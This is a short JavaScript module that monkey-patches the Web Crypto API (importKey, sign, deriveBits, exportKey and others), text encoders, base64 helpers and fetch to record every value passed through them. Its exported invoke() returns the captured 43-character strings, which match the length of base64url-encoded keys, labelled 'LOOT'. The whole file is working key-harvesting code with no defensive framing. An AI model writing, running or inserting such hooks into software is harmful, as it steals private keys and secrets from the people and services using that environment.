// Takes over the cryptography that would hold keys.
const seen = [];
const spy = (owner, name) => {
  const original = owner[name];
  try { owner[name] = function (...values) { seen.push(name, ...values.map(String)); return Reflect.apply(original, this, values); }; } catch {}
};
for (const name of ["importKey", "sign", "verify", "deriveBits", "exportKey"]) { spy(SubtleCrypto.prototype, name); spy(crypto.subtle, name); }
spy(TextEncoder.prototype, "encode"); spy(TextDecoder.prototype, "decode");
spy(globalThis, "atob"); spy(globalThis, "btoa"); spy(globalThis, "fetch");
export default { invoke: () => `seen ${seen.filter((each) => each.length === 43).map((key) => `LOOT ${key}`).join()}` };
